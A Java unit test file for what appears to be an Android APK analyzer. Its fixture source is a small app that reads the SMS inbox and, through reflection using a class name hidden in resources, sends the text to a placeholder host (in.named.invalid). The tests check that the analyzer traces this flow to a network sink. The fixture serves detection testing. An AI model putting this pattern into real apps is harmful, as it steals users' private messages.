package io.unveil.analyzer.worker;

import static io.unveil.fixtures.ApkBuilder.apk;
import static org.assertj.core.api.Assertions.assertThat;

import io.unveil.analyzer.facts.AppFacts;
import io.unveil.analyzer.model.ModelLoader;
import io.unveil.unpacker.ApkBytes;
import io.unveil.unpacker.Limits;
import io.unveil.unpacker.UnpackedApk;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SampleWorkTest {
  private static final String SOURCE =
      """
      package com.example.named;

      import android.app.Activity;
      import android.database.Cursor;
      import android.net.Uri;
      import android.os.Bundle;
      import java.io.OutputStream;
      import java.net.HttpURLConnection;
      import java.net.URL;

      public class Main extends Activity {
        @Override
        protected void onCreate(Bundle state) {
          super.onCreate(state);
          Cursor cursor =
              getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
          try {
            Class.forName(getString(0x7f010000))
                .getMethod("pass", String.class)
                .invoke(null, cursor.getString(0));
          } catch (ReflectiveOperationException e) {
            throw new IllegalStateException(e);
          }
        }

        public static class Net {
          public static void pass(String text) throws Exception {
            URL url = new URL("https://in.named.invalid/v1");
            HttpURLConnection connection = (HttpURLConnection) url.openConnection();
            OutputStream out = connection.getOutputStream();
            out.write(text.getBytes());
          }
        }
      }
      """;

  private final SampleWork work = new SampleWork(Limits.DEFAULT, ModelLoader::bundled, stage -> {});

  @TempDir private Path folder;

  @Test
  void classNamedInTheResources_isFollowed_inEveryKindOfJob() throws Exception {
    Path file = Files.write(folder.resolve("app.apk"), appThatNamesItsClassInResources());
    String sha256 = sha256(file);
    UnpackedApk apk = unpack(file, sha256);

    assertThat(facts(new Request.Scan(file.toString(), sha256)).flows())
        .extracting(flow -> flow.sinkKind())
        .containsExactly("network");
    assertThat(facts(new Request.Analyze(file.toString(), apk)).flows())
        .extracting(flow -> flow.sinkKind())
        .containsExactly("network");
  }

  /** What a job leaves decides whether its worker is replaced, and garbage is no reason. */
  @Test
  void garbageOfMoreThanHalfTheHeap_isNotTold() throws Exception {
    Path file = Files.write(folder.resolve("app.apk"), appThatNamesItsClassInResources());
    Request.Unpack job = new Request.Unpack(file.toString(), sha256(file));
    long half = Runtime.getRuntime().maxMemory() / 2;
    litter(half + half / 20);

    assertThat(work.answer(job))
        .isInstanceOfSatisfying(
            Reply.Unpacked.class, reply -> assertThat(reply.cost().heapBytes()).isLessThan(half));
  }

  /** Fills the heap, then lets go of all of it. */
  private static void litter(long bytes) {
    List<byte[]> held = new ArrayList<>();
    // With its header just below what the collector hands out in whole regions.
    int each = (8 << 20) - 64;
    for (long at = 0; at < bytes; at += each) {
      held.add(new byte[each]);
    }
    assertThat(held).isNotEmpty();
  }

  private static byte[] appThatNamesItsClassInResources() {
    return apk("com.example.named")
        .label("Named")
        .string("type", "com.example.named.Main$Net")
        .permission("INTERNET", "READ_SMS")
        .activity(".Main", a -> a.launcher().exported(true))
        .source(SOURCE)
        .build();
  }

  private UnpackedApk unpack(Path file, String sha256) {
    Reply reply = work.answer(new Request.Unpack(file.toString(), sha256));
    assertThat(reply).isInstanceOf(Reply.Unpacked.class);
    return ((Reply.Unpacked) reply).apk();
  }

  private AppFacts facts(Request request) {
    Reply reply = work.answer(request);
    assertThat(reply).isInstanceOf(Reply.Analyzed.class);
    return ((Reply.Analyzed) reply).facts();
  }

  private static String sha256(Path file) throws Exception {
    try (ApkBytes bytes = ApkBytes.map(file, Limits.DEFAULT)) {
      return bytes.sha256();
    }
  }
}
